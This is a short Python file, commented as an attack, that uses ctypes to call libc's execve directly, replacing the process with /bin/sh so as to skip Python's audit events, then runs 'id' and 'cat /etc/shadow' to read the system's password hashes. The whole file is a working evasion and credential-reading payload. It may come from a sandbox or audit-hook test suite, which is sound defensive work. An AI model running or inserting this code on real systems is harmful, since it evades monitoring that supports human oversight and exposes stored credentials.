# attack: call libc execve through ctypes to replace the process with /bin/sh, skipping Python's audit events
import ctypes

libc = ctypes.CDLL("libc.so.6")
argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", b"id; cat /etc/shadow", None)
envp = (ctypes.c_char_p * 1)(None)
libc.execve(b"/bin/sh", argv, envp)
